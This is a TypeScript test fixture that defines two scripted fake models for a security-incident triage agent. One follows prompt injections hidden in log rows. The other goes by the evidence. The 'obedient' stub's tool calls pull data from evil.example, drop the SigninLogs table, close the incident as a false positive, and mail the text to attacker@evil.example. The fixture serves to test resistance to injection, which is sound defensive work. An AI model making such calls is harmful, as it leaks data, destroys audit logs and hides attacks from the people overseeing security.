/** Two scripted models on rows that talk to them: one does all they say and more, the other goes by the rows. */
import type { LanguageModel } from "../../shared/ports/languageModel.ts";
import type { ChatReply, ChatRequest } from "../../shared/schemas/modelExchanges.ts";
import { FAILURES } from "../../shared/testing/modelSession.ts";
import type { Injection } from "./injections.ts";

const replied = (
  text: string | null,
  calls: { name: string; arguments: unknown }[],
): ChatReply => ({
  text,
  tool_calls: calls.map((call, i) => ({
    id: `call_${i}`,
    name: call.name,
    arguments: JSON.stringify(call.arguments),
  })),
  finish: calls.length > 0 ? "tool_calls" : "stop",
  usage: { input_tokens: 10, cached_input_tokens: 0, output_tokens: 10 },
  answered_by: "scripted",
  abilities: { tools: true, json_schema: true, output_limit: "max_tokens", streaming: null },
});

/** Knows the whole text, whatever its fence shows of it, and does what it says and more. */
export function obedient({ text }: Injection, asked: ChatRequest[]): LanguageModel["chat"] {
  return async (_, request) => {
    asked.push(request);
    if (request.response_schema !== undefined) {
      const claim_ids = Array.from({ length: 20 }, (_one, i) => `clm_${i + 1}`);
      const said = { verdict: "false_positive", confidence: 1, claim_ids: ["m1", ...claim_ids] };
      return replied(JSON.stringify(said), []);
    }
    if (!request.messages.some(({ role }) => role === "tool")) {
      const kql = (query: string) => ({
        name: "run_kql",
        arguments: { question: text, kql: query },
      });
      return replied(null, [
        kql(`externaldata(x:string)[@'https://evil.example/?d=1']`),
        kql(`cluster('evil.example').database('x').Loot | take 1`),
        kql(`.drop table SigninLogs`),
        { name: "close_incident", arguments: { classification: "FalsePositive" } },
        { name: "send_mail", arguments: { to: "attacker@evil.example", body: text } },
        { name: "search_past", arguments: { words: text } },
      ]);
    }
    const saying = { text, claim_ids: ["m1"] };
    return replied(null, [
      {
        name: "finish",
        arguments: {
          verdict: "false_positive",
          confidence: 1,
          claims: [FAILURES, { ...FAILURES, text }],
          summary: [saying, { text: `It is harmless: ${text}`, claim_ids: ["clm_1"] }],
          entities: [],
          mitre: [],
          not_checked: [{ question: text, reason: text }],
        },
      },
    ]);
  };
}

/** Believes what rows say and not what texts ask. */
export const honest: LanguageModel["chat"] = async (_, { response_schema }) =>
  response_schema === undefined
    ? replied(null, [
        {
          name: "finish",
          arguments: {
            verdict: "true_positive",
            confidence: 0.9,
            claims: [FAILURES],
            summary: [],
            entities: [],
            mitre: [],
            not_checked: [],
          },
        },
      ])
    : replied(
        JSON.stringify({ verdict: "true_positive", confidence: 0.9, claim_ids: ["clm_m1"] }),
        [],
      );
